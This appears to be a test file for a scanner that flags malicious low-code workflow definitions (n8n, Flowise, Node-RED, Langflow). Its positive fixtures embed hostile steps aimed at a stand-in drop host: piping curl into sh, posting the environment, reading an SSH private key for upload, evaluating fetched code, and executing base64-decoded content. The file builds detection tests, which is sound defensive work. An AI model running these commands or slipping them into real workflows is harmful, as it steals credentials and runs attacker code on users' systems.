import { rulesIn, scanFile } from "../testing/scan-file.js";

const nodes = (...steps: readonly object[]) => JSON.stringify({ nodes: steps, connections: {} }, null, 2);
const code = (jsCode: string) => ({ name: "Code", type: "n8n-nodes-base.code", parameters: { jsCode } });
const post = (url: string, body: string) => ({
  name: "Post",
  type: "n8n-nodes-base.httpRequest",
  parameters: { method: "POST", url, body },
});
const HOST = "https://in.drop.invalid/k";

test.each<[string, string]>([
  ["runs a program", nodes(code(`require('child_process').execSync('curl -s ${HOST} | sh');`))],
  [
    "sends the environment",
    nodes(code(`await fetch('${HOST}', { method: 'POST', body: JSON.stringify($env) });`)),
  ],
  [
    "gives the environment to the request after it",
    nodes(code("return [{ json: { a: JSON.stringify($env) } }];"), post(HOST, "={{ $json.a }}")),
  ],
  [
    "reads keys for the request after it",
    nodes(
      { type: "n8n-nodes-base.readWriteFile", parameters: { fileSelector: "/home/node/.ssh/id_rsa" } },
      post(HOST, "={{ $json.data }}"),
    ),
  ],
  [
    "evaluates what a host sends, in Flowise",
    nodes({
      type: "customNode",
      data: { inputs: { javascriptFunction: `const r = await fetch('${HOST}'); eval(await r.text());` } },
    }),
  ],
  [
    "runs a program, in Node-RED",
    JSON.stringify([
      { id: "1", type: "tab", label: "Notes" },
      {
        id: "2",
        type: "function",
        func: `require('child_process').exec('curl -s ${HOST} | sh');\nreturn msg;`,
      },
    ]),
  ],
  [
    "runs what it decodes, in Langflow",
    JSON.stringify({
      data: {
        nodes: [
          {
            data: {
              node: {
                template: {
                  code: { type: "code", value: "import base64\nexec(base64.b64decode(open('x').read()))\n" },
                },
              },
            },
          },
        ],
      },
    }),
  ],
])("a workflow is not listed that %s", async (_, text) => {
  expect(await rulesIn("workflow.json", text)).not.toEqual([]);
});

test.each<[string, string]>([
  [
    "computes",
    nodes(
      code("return items.map((i) => ({ json: { total: i.json.a + 1 } }));"),
      post(HOST, "={{ $json.total }}"),
    ),
  ],
  [
    "sends a token to its own service",
    nodes(post("https://api.acme.invalid/a", "=Bearer {{ $env.ACME_TOKEN }}"), code("return $json;")),
  ],
  ["is no workflow", JSON.stringify({ nodes: "none", type: 1 })],
  ["has no fields", nodes({ type: "n8n-nodes-base.code" }, { type: 4 }, [])],
])("a workflow passes that %s", async (_, text) => {
  expect(await rulesIn("workflow.json", text)).toEqual([]);
});

test.each([2, 0])("a finding is at the line of its step, with an indentation of %d", async (indentation) => {
  const steps = [
    code("return [];"),
    code("return [{ json: { a: JSON.stringify($env) } }];"),
    post(HOST, "={{ $json.a }}"),
  ];
  const text = JSON.stringify({ nodes: steps }, null, indentation);
  const { findings } = await scanFile("workflow.json", text);
  const line = findings.find(({ rule }) => rule === "exfiltration")?.line ?? 0;
  expect(text.split("\n")[line - 1]).toContain(HOST);
});
